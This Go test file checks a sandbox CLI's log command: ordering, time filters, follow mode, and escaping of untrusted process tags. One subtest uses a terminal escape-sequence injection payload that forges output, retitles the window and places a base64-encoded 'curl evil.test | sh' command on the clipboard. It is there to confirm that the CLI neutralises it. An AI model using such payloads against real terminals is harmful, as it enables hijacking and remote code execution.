package remotecli

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"os/exec"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/hutch-sandbox/hutch/sdk"
	"github.com/hutch-sandbox/hutch/test/internal/hutchtest"
)

// logEntry is the SDK's LogEntry.
type logEntry struct {
	Timestamp time.Time         `json:"timestamp"`
	Level     string            `json:"level"`
	Message   string            `json:"message"`
	Fields    map[string]string `json:"fields"`
}

func testLogs(t *testing.T, f *fixture, id string) {
	marker := "logged-" + time.Now().Format("150405.000000")
	f.ok(t, "exec", id, "--", "true "+marker)
	r := f.hutch(t, "", "logs", id)
	if r.Code == 1 && strings.Contains(r.Stderr, "does not serve sandbox logs") {
		t.Skipf("the server has no GET /v2/sandboxes/{id}/logs route yet: %s", r.Stderr)
	}
	if r.Code != 0 || !strings.Contains(r.Stdout, marker) {
		t.Fatalf("logs does not show the command run: %s", r)
	}

	var entries []logEntry
	out := f.ok(t, "logs", "--json", id)
	if err := json.Unmarshal([]byte(out), &entries); err != nil || len(entries) == 0 {
		t.Fatalf("logs --json: %v\n%s", err, out)
	}
	for i := 1; i < len(entries); i++ {
		if entries[i].Timestamp.Before(entries[i-1].Timestamp) {
			t.Errorf("entries out of order: %v before %v", entries[i-1].Timestamp, entries[i].Timestamp)
		}
	}

	// --since in the future shows nothing; a duration back shows what was.
	if got := f.ok(t, "logs", "--since", time.Now().Add(time.Hour).Format(time.RFC3339), id); got != "" {
		t.Errorf("logs --since in an hour: %q", got)
	}
	if got := f.ok(t, "logs", "--since", "10m", id); !strings.Contains(got, marker) {
		t.Errorf("logs --since 10m lacks %s:\n%s", marker, got)
	}
	wantFailure(t, f.hutch(t, "", "logs", "--since", "yesterday", id), 1, `--since "yesterday"`)
	wantFailure(t, f.hutch(t, "", "logs", "nosuchsandbox"), 1, "sandbox nosuchsandbox not found")

	// Review finding C1: what the sandbox logs reaches the operator's
	// terminal. A process's tag is logged as it is; printed raw, this
	// one would set the window title (OSC 0), write the clipboard (OSC
	// 52), and erase the line before to forge another.
	t.Run("escape sequences", func(t *testing.T) {
		sbx, err := sdk.Connect(t.Context(), id, sdk.ConnectOptions{Config: sdk.Config{APIURL: f.srv.URL(), APIKey: hutchtest.TestKey}})
		if err != nil {
			t.Fatal(err)
		}
		tag := "\x1b]0;pwned\a\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA\a\x1b[1A\x1b[2K\rforged\u009b2J"
		if _, err := sbx.Commands.Run(t.Context(), "true", &sdk.RunOptions{Tag: tag}); err != nil {
			t.Fatal(err)
		}
		want := `tag=\x1b]0;pwned\a\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA\a\x1b[1A\x1b[2K\rforged\u009b2J`
		var out string
		for deadline := time.Now().Add(10 * time.Second); !strings.Contains(out, want) && time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
			out = f.ok(t, "logs", id)
		}
		if !strings.Contains(out, want) {
			t.Errorf("logs does not show the tag escaped, %s:\n%q", want, out)
		}
		if i := strings.IndexFunc(out, func(r rune) bool { return r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 }); i >= 0 {
			t.Errorf("logs printed control character %q: %q", out[i], out[max(0, i-40):min(len(out), i+40)])
		}
		// JSON stays JSON: the tag comes back as it was.
		var entries []logEntry
		if err := json.Unmarshal([]byte(f.ok(t, "logs", "--json", id)), &entries); err != nil {
			t.Fatal(err)
		}
		if !slices.ContainsFunc(entries, func(e logEntry) bool { return e.Fields["tag"] == tag }) {
			t.Errorf("logs --json lacks the tag %q", tag)
		}
	})

	t.Run("follow", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, f.bin, append(f.flags(), "logs", "-f", "--json", "--since", "1s", id)...)
		cmd.Env = f.env
		stdout, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		lines := make(chan string, 100)
		go func() {
			sc := bufio.NewScanner(stdout)
			for sc.Scan() {
				lines <- sc.Text()
			}
			close(lines)
		}()
		marker2 := "followed-" + time.Now().Format("150405.000000")
		f.ok(t, "exec", id, "--", "true "+marker2)
		seen := 0
		for found := false; !found; {
			select {
			case l, ok := <-lines:
				if !ok {
					t.Fatal("logs -f ended")
				}
				var e logEntry
				if err := json.Unmarshal([]byte(l), &e); err != nil {
					t.Fatalf("logs -f --json printed %q: %v", l, err)
				}
				found = strings.Contains(l, marker2)
				if found {
					seen++
				}
			case <-ctx.Done():
				t.Fatal("logs -f never showed the new command")
			}
		}
		// Interrupted, it ends quietly, and printed no entry twice.
		time.Sleep(1500 * time.Millisecond)
		cmd.Process.Signal(syscall.SIGINT)
		for l := range lines {
			if strings.Contains(l, marker2) {
				seen++
			}
		}
		err = cmd.Wait()
		var ee *exec.ExitError
		if err != nil && !errors.As(err, &ee) {
			t.Fatal(err)
		}
		if err != nil {
			t.Errorf("logs -f after SIGINT: %v, want exit 0", err)
		}
		if seen != 1 { // "process started", with the command line
			t.Errorf("logs -f showed the start of %s %d times, want once", marker2, seen)
		}
	})
}
